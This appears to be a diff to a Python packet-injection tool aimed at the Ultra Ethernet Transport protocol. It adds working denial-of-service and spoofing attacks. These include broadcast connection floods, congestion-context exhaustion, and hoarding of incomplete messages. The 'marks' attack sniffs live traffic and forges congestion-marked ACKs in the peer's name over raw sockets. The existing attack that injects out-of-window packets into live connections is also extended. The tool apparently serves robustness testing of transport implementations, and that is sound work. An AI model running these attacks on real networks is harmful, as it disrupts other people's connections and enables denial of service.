@@ -5,10 +5,11 @@
     uet_inject.py ATTACK TARGET [--source ADDR] [--count N] [--seed N]
                   [--device DEV]
 
-Attacks that need to know a live PDC (live, replay) listen on the device for
-packets that this host exchanges with the target. Nothing is sent that could
-pass for a valid packet of that PDC: forging those is outside of what a
-transport without encryption can notice.
+Attacks that need to know a live PDC (live, marks, replay) listen on the device
+for packets that this host exchanges with the target. But for marks, which runs
+on the peer's own host, nothing is sent that could pass for a valid packet of
+that PDC: forging those is outside of what a transport without encryption can
+notice.
 """
 import argparse
 import random
@@ -21,9 +22,12 @@ import uet_packets as p
 
 ETH_P_ALL = 3
 SO_NO_CHECK = 11
+SO_TIMESTAMPNS = 35
 IP_TRANSPARENT = 19
 UDP_SEGMENT = 103
 ETH_HLEN = 14
+# Forged ACKs for each of the peer's: values that it sent with, and others
+MARKS_KNOWN, MARKS_UNKNOWN = 64, 8
 
 
 class Wire:
@@ -129,9 +133,11 @@ def ip_checksum(header):
     return ~total & 0xffff
 
 
-def ipv4(source, target, payload, sport):
-    udp = struct.pack("!HHHH", sport, p.UDP_PORT, 8 + len(payload), 0)
-    head = struct.pack("!BBHHHBBH4s4s", 0x45, 2, 28 + len(payload), 0, 0x4000,
+def ipv4(source, target, payload, sport, tos=2, udp_len=None):
+    """A packet; udp_len if UDP claims another length, as trimmed packets do"""
+    udp = struct.pack("!HHHH", sport, p.UDP_PORT, udp_len or 8 + len(payload),
+                      0)
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, tos, 28 + len(payload), 0, 0x4000,
                        64, 17, 0, socket.inet_aton(source),
                        socket.inet_aton(target))
     head = head[:10] + struct.pack("!H", ip_checksum(head)) + head[12:]
@@ -180,6 +186,43 @@ def synflood(wire, args):
             time.sleep(0.002)
 
 
+def groups(wire, _args):
+    """First packets to everybody on the link"""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        for i in range(100):
+            data = p.request(0x10000, 1 + i, 0, flags=p.F_SYN | p.F_AR)
+            s.sendto(data, ("10.0.0.255", p.UDP_PORT))
+            wire.sent += 1
+
+
+def ccc_ids(wire, args):
+    """Another congestion control context with every packet of one PDC"""
+    spdcid, psn = random.randrange(1, 65536), 0x20000
+    for i in range(args.count):
+        wire.send(p.request(psn, spdcid, 0, ptype=p.RUD_CC_REQ,
+                            flags=p.F_SYN | p.F_AR,
+                            credit=(i % 256) << 24 | i * 16 & 0xffffff))
+
+
+def hoard(wire, args):
+    """Messages without their last packets, until nobody else gets in"""
+    spdcid, start, size, packets = random.randrange(1, 65536), 0x30000, 2000, 21
+    end = time.monotonic() + args.seconds
+    while time.monotonic() < end:
+        # What was refused before finds room later; the rest are duplicates
+        for message in range(24):
+            for i in range(packets - 1):
+                off = message * packets + i
+                ses = p.ses_std(flags=p.S_REL | (0 if i else p.S_SOM),
+                                msg_id=message + 1, length=size * packets,
+                                offset=i * size, part=size)
+                wire.send(p.request(start + off, spdcid, off,
+                                    flags=p.F_SYN | p.F_AR, ses=ses,
+                                    payload=bytes(size)))
+        time.sleep(0.5)
+
+
 class Tap:
     """UET packets seen on a device: (outgoing, UDP payload)"""
 
@@ -187,14 +230,20 @@ class Tap:
         self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                                   socket.htons(ETH_P_ALL))
         self.sock.bind((device, ETH_P_ALL))
+        self.sock.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
         self.sock.settimeout(0.5)
 
-    def packets(self, seconds):
+    def datagrams(self, seconds, oldest=None):
+        """(outgoing, IP header, UDP header and payload); none that has waited
+        here for longer than so many seconds"""
         end = time.monotonic() + seconds
         while time.monotonic() < end:
             try:
-                data, where = self.sock.recvfrom(65536)
+                data, extra, _, where = self.sock.recvmsg(65536, 64)
             except socket.timeout:
+                continue
+            s, ns = struct.unpack("qq", extra[0][2][:16])
+            if oldest and time.time() - s - ns / 1e9 > oldest:
                 continue
             ip = data[ETH_HLEN:]
             if len(ip) < 40 or ip[0] >> 4 != 4 or ip[9] != 17:
@@ -202,43 +251,82 @@ class Tap:
             udp = ip[(ip[0] & 15) * 4:]
             if struct.unpack("!H", udp[2:4])[0] == p.UDP_PORT:
                 outgoing = where[2] == socket.PACKET_OUTGOING
-                yield outgoing, bytes(udp[8:])
+                yield outgoing, ip[:20], udp
+
+    def packets(self, seconds, oldest=None):
+        for outgoing, _, udp in self.datagrams(seconds, oldest):
+            yield outgoing, bytes(udp[8:])
 
 
 def live(wire, args):
-    """PSNs far outside, acknowledgements of what was never sent, wrong peers"""
-    tap = Tap(args.device)
-    for outgoing, data in tap.packets(args.seconds):
+    """PSNs far outside, acknowledgements of what was never sent, wrong peers.
+    What is far from an old packet may be near by now, and what is made of a
+    packet that was made here may be right again."""
+    tap, mine = Tap(args.device), set()
+
+    def send(data):
+        mine.add(data)
+        wire.send(data)
+
+    for outgoing, data in tap.packets(args.seconds, oldest=0.05):
+        if data in mine:
+            continue
         kind = data[0] >> 3
         if outgoing and kind in (p.RUD_REQ, p.ROD_REQ) and not data[1] & p.F_SYN:
             psn, spdcid, dpdcid = struct.unpack("!IHH", data[4:12])
             for far in (5000, 40000, 1 << 20, 1 << 30, (1 << 31) - 1,
                         -70000, -(1 << 30)):
-                wire.send(p.request(psn + far, spdcid, dpdcid, ptype=kind))
-            wire.send(p.request(psn + 1, spdcid ^ 0x5555, dpdcid, ptype=kind))
-            wire.send(p.request(psn + 6000, spdcid, 0, ptype=kind,
-                                flags=p.F_SYN))
-            wire.send(p.request(psn + 7000, spdcid, dpdcid,
-                                ptype=p.RUD_REQ + p.ROD_REQ - kind))
+                send(p.request(psn + far, spdcid, dpdcid, ptype=kind))
+            send(p.request(psn + 1, spdcid ^ 0x5555, dpdcid, ptype=kind))
+            send(p.request(psn + 6000, spdcid, 0, ptype=kind,
+                           flags=p.F_SYN))
+            send(p.request(psn + 7000, spdcid, dpdcid,
+                           ptype=p.RUD_REQ + p.ROD_REQ - kind))
             for kind in (p.CP_NOOP, p.CP_CLOSE_REQ, p.CP_NEGOTIATION):
-                wire.send(p.control(kind, psn + (1 << 30), spdcid, dpdcid))
-            wire.send(p.control(p.CP_ACK_REQ, psn + 30000, spdcid, dpdcid))
-            wire.send(p.control(p.CP_CLEAR_CMD, 0, spdcid, dpdcid, flags=0,
-                                payload=psn + (1 << 20)))
+                send(p.control(kind, psn + (1 << 30), spdcid, dpdcid))
+            send(p.control(p.CP_ACK_REQ, psn + 30000, spdcid, dpdcid))
+            send(p.control(p.CP_CLEAR_CMD, 0, spdcid, dpdcid, flags=0,
+                           payload=psn + (1 << 20)))
         elif outgoing and kind == p.ACK_CC:
             cack, spdcid, dpdcid = struct.unpack("!IHH", data[4:12])
             for far in (50000, 1 << 20, 1 << 30, (1 << 31) - 1, -50000,
                         -(1 << 30)):
-                wire.send(p.ack_cc(cack + far, spdcid, dpdcid,
-                                   ses=p.response()))
-                wire.send(p.ack(cack + far, spdcid, dpdcid))
-                wire.send(p.nack(0x0e, cack + far, 0, dpdcid))
-                wire.send(p.nack(0x11, cack + far, spdcid, dpdcid))
-            wire.send(p.ack_cc(cack, spdcid ^ 0x5555, dpdcid))
-            wire.send(p.ack_cc(cack, spdcid, dpdcid, offset=32767,
-                               ses=p.response(code=0x1a)))
-            wire.send(p.ack_cc(cack, spdcid, dpdcid, sack_offset=32000,
-                               sack=(1 << 64) - 1))
+                send(p.ack_cc(cack + far, spdcid, dpdcid,
+                              ses=p.response()))
+                send(p.ack(cack + far, spdcid, dpdcid))
+                send(p.nack(0x0e, cack + far, 0, dpdcid))
+                send(p.nack(0x11, cack + far, spdcid, dpdcid))
+            send(p.ack_cc(cack, spdcid ^ 0x5555, dpdcid))
+            send(p.ack_cc(cack, spdcid, dpdcid, offset=32767,
+                          ses=p.response(code=0x1a)))
+            send(p.ack_cc(cack, spdcid, dpdcid, sack_offset=32000,
+                          sack=(1 << 64) - 1))
+
+
+def marks(wire, args):
+    """ACKs as the peer's own, all of them marked: for every value that the
+    target sends with in turn, and for values that it never used (IPv4)"""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    values, turn = [], 0
+    for outgoing, ip, udp in Tap(args.device).datagrams(args.seconds):
+        value, data = struct.unpack("!H", udp[:2])[0], udp[8:]
+        kind = data[0] >> 3
+        if not outgoing:
+            if kind in (p.RUD_REQ, p.ROD_REQ) and value not in values:
+                values.append(value)
+            continue
+        # What is sent below comes by here, too
+        if kind != p.ACK_CC or data[1] & p.F_M or not values:
+            continue
+        forged = data[:1] + bytes([data[1] | p.F_M]) + data[2:]
+        for i in range(MARKS_KNOWN + MARKS_UNKNOWN):
+            turn += 1
+            value = values[turn % len(values)]
+            while i >= MARKS_KNOWN and value in values:
+                value = random.randrange(1024, 65536)
+            raw.sendto(ipv4(socket.inet_ntoa(ip[12:16]), wire.target, forged,
+                            value, ip[1]), (wire.target, 0))
+            wire.sent += 1
 
 
 def replay(wire, args):
@@ -259,9 +347,9 @@ def replay(wire, args):
         wire.send(data)
 
 
-ATTACKS = {f.__name__: f for f in (truncated, extremes, types, lengths,
+ATTACKS = {f.__name__: f for f in (truncated, extremes, types, lengths, groups,
                                    garbage, pdcids, strangers, synflood,
-                                   live, replay)}
+                                   ccc_ids, hoard, live, marks, replay)}
 
 
 def main():
